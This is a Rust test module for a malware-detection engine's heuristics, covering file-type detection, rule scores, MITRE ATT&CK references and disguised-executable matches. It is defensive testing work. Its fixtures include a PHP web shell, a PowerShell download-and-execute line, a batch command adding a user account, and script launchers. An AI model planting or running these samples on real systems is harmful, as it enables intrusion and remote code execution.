//! Good and bad files, each with the heuristics that must speak.

mod content;
mod delivery;
mod names;
mod packing;
mod scripts;

use std::collections::BTreeSet;

use squall_types::{Match, MatchField, SignatureKind, SignatureOrigin, Thresholds, total_score};

use super::{HEURISTICS, Subject, check};
use crate::file_type;
use crate::pe_info::{pe_info, sample::PeSample};

/// A file under test.
struct File {
    content: Vec<u8>,
    path: String,
    name_len: usize,
    unpack_source: Vec<String>,
    siblings: Option<usize>,
}

/// Begins a file that was sent as it is.
fn file(path: &str, content: impl Into<Vec<u8>>) -> File {
    File {
        content: content.into(),
        path: path.to_owned(),
        name_len: path.len(),
        unpack_source: Vec::new(),
        siblings: None,
    }
}

impl File {
    /// Puts it into containers, outermost first.
    fn out_of(mut self, types: &[&str]) -> Self {
        self.path = format!("/in/outer|{}", self.path);
        self.unpack_source = types.iter().map(|&name| name.to_owned()).collect();
        self
    }

    /// Sets how many members its container has.
    fn siblings(mut self, count: usize) -> Self {
        self.siblings = Some(count);
        self
    }

    fn matches(&self) -> Vec<Match> {
        let pe = pe_info(&self.content);
        check(&Subject {
            content: &self.content,
            path: &self.path,
            name: &self.path[self.path.len() - self.name_len..],
            file_type: file_type::detect(&self.content),
            pe: pe.as_ref().map(|file| &file.layout),
            unpack_source: &self.unpack_source,
            siblings: self.siblings,
        })
    }

    /// Checks which heuristics speak, named without the prefix that all have.
    #[track_caller]
    fn expect(&self, expected: &[&str]) {
        let matches = self.matches();
        let names: Vec<&str> = matches
            .iter()
            .map(|found| found.rule_name.trim_start_matches("Heuristic_"))
            .collect();
        assert_eq!(names, expected, "{:?}", self.path);
    }

    /// Returns the parts of the path that are pointed at.
    fn shown(&self) -> Vec<String> {
        let strings = self.matches().into_iter().flat_map(|found| found.strings);
        strings
            .filter(|string| string.field == MatchField::Path)
            .map(|string| {
                let start = usize::try_from(string.offset).unwrap();
                let at_offset = &self.path.as_bytes()[start..start + string.data.len()];
                assert_eq!(at_offset, string.data);
                String::from_utf8(string.data).unwrap()
            })
            .collect()
    }
}

/// A Windows program.
fn exe() -> Vec<u8> {
    PeSample::ordinary().build()
}

/// The header of a Linux program.
fn elf() -> Vec<u8> {
    let mut content = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    content.resize(256, 0);
    content
}

/// The header of a Windows shortcut.
fn lnk() -> Vec<u8> {
    let mut content = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    content.resize(128, 0);
    content
}

/// A zip archive with one empty member.
fn zip() -> Vec<u8> {
    let mut content =
        b"PK\x03\x04\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0a".to_vec();
    let directory = content.len() as u32;
    content.extend_from_slice(b"PK\x01\x02\x0a\0\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    content.extend_from_slice(b"\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0a");
    let size = content.len() as u32 - directory;
    content.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    content.extend_from_slice(&size.to_le_bytes());
    content.extend_from_slice(&directory.to_le_bytes());
    content.extend_from_slice(&[0, 0]);
    content
}

const HTA: &[u8] = b"<html><head><hta:application id=x></head>\
    <script>new ActiveXObject('x')</script></html>";
const VBS: &[u8] = b"Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n";
const JS: &[u8] = b"var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc\");\n";
const PHP: &[u8] = b"<?php @eval($_POST['cmd']); ?>\n";
const BATCH: &[u8] = b"@echo off\r\ncd /d %~dp0\r\nnet user x y /add\r\n";
const POWERSHELL: &[u8] = b"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')";
const TEXT: &[u8] = b"Dear all,\nplease find the minutes of our meeting below.\n";

#[test]
fn the_samples_are_what_they_are_called() {
    for (content, expected) in [
        (exe(), "EXE"),
        (elf(), "ELF"),
        (lnk(), "LNK"),
        (zip(), "ZIP"),
        (HTA.to_vec(), "HTA"),
        (VBS.to_vec(), "VBS"),
        (JS.to_vec(), "JS"),
        (PHP.to_vec(), "PHP"),
        (BATCH.to_vec(), "BATCH"),
        (POWERSHELL.to_vec(), "PowerShell"),
        (TEXT.to_vec(), "TEXT"),
    ] {
        assert_eq!(file_type::detect(&content).name(), expected);
    }
}

#[test]
fn the_table_is_sound() {
    let names: BTreeSet<&str> = HEURISTICS.iter().map(|heuristic| heuristic.name).collect();
    assert_eq!(names.len(), HEURISTICS.len(), "names are unique");
    for heuristic in HEURISTICS {
        let name = heuristic.name;
        assert!(name.starts_with("Heuristic_"), "{name}");
        assert!((40..=75).contains(&heuristic.score), "{name}");
        let technique = heuristic.tags.last().unwrap().replace('.', "/");
        let reference = format!("https://attack.mitre.org/techniques/{technique}/");
        assert_eq!(heuristic.reference, reference, "{name}");
        let is_upper = |tag: &&str| !tag.contains(|c: char| c.is_ascii_lowercase());
        assert!(heuristic.tags.iter().all(is_upper), "{name}");
    }
}

#[test]
fn the_module_documentation_lists_the_table() {
    let documentation = include_str!("../mod.rs");
    let rows: Vec<(&str, i32)> = documentation
        .lines()
        .filter_map(|line| line.strip_prefix("//! | `"))
        .map(|row| {
            let score = row.trim_end_matches(" |").rsplit(' ').next().unwrap();
            (row.split('`').next().unwrap(), score.parse().unwrap())
        })
        .collect();
    let table = HEURISTICS
        .iter()
        .map(|heuristic| (heuristic.name, heuristic.score));
    assert_eq!(rows, table.collect::<Vec<_>>());
}

#[test]
fn the_users_documentation_lists_the_table() {
    let documentation = include_str!("../../../../../docs/heuristics.md");
    let rows: Vec<(&str, i32)> = documentation
        .lines()
        .filter(|line| line.starts_with("| `Heuristic_"))
        .map(|row| {
            let cells: Vec<&str> = row.split('|').map(str::trim).collect();
            (cells[1].trim_matches('`'), cells[3].parse().unwrap())
        })
        .collect();
    let table = HEURISTICS
        .iter()
        .map(|heuristic| (heuristic.name, heuristic.score));
    assert_eq!(rows, table.collect::<Vec<_>>());
}

#[test]
fn all_of_them_together_are_no_alert() {
    let subscores: Vec<i32> = HEURISTICS.iter().map(|heuristic| heuristic.score).collect();
    let level = Thresholds::default().level(total_score(&subscores), &subscores);
    assert_eq!(level.map(squall_types::Level::name), Some("Warning"));
}

#[test]
fn a_match_says_what_a_report_shows() {
    let matches = file("C:\\Users\\x\\report.pdf", exe()).matches();
    let [found] = &matches[..] else {
        panic!("one match, not {matches:?}");
    };
    assert_eq!(found.kind, SignatureKind::InternalHeuristic);
    assert_eq!(found.origin, SignatureOrigin::Internal);
    assert_eq!(found.rule_name, "Heuristic_Executable_Disguised");
    assert_eq!(found.subscore, 70);
    assert_eq!(found.tags, ["HEURISTIC", "DISGUISE", "T1036.008"]);
    assert!(found.description.starts_with("Program under"));
    let [extension, magic] = &found.strings[..] else {
        panic!("two strings, not {:?}", found.strings);
    };
    assert_eq!((extension.field, extension.offset), (MatchField::Path, 17));
    assert_eq!(extension.data, b".pdf");
    assert_eq!(extension.before, b"C:\\Users\\x\\report");
    assert_eq!((magic.field, magic.offset), (MatchField::Content, 0));
    assert_eq!(magic.data, b"MZ\0\0\0\0\0\0");
}

#[test]
fn any_name_and_any_content_are_survived() {
    let dots = ".".repeat(5000);
    let blanks = " ".repeat(70_000);
    let long = format!("{}.pdf{blanks}.exe", "ü".repeat(70_000));
    let names = [
        "",
        ".",
        "..",
        "...",
        "/",
        "\\",
        "a/",
        ".exe",
        "..exe",
        ". .exe",
        "\0",
        "\u{202e}",
        "a.\u{202e}",
        ".pdf.exe",
        " .pdf.exe",
        "ü.ü",
        "a.\u{130}",
        "\u{3000}.\u{3000}",
        "|",
        "a|b.pdf.exe",
        &dots,
        &blanks,
        &long,
    ];
    for name in names {
        for content in [
            &b""[..],
            b"M",
            b"MZ",
            &exe()[..300],
            &elf()[..20],
            PHP,
            &[0xff; 100],
        ] {
            for file in [
                file(name, content),
                file(name, content).out_of(&["EMAIL", "ZIP"]).siblings(1),
            ] {
                let found = file.matches();
                assert!(found.len() <= HEURISTICS.len());
                file.shown();
            }
        }
    }
}

#[test]
fn a_name_costs_microseconds() {
    let content = TEXT;
    let path = "/home/user/documents/projects/2026/minutes of the meeting.v2.txt";
    let file_type = file_type::detect(content);
    let subject = Subject {
        content,
        path,
        name: path,
        file_type,
        pe: None,
        unpack_source: &[],
        siblings: None,
    };
    let started = std::time::Instant::now();
    let rounds = 10_000;
    let found: usize = (0..rounds).map(|_| check(&subject).len()).sum();
    assert_eq!(found, 0);
    // Under 1 µs where nothing else runs; the rest is for machines that are busy.
    let limit_us = 50;
    assert!(started.elapsed().as_micros() < rounds * limit_us);
}
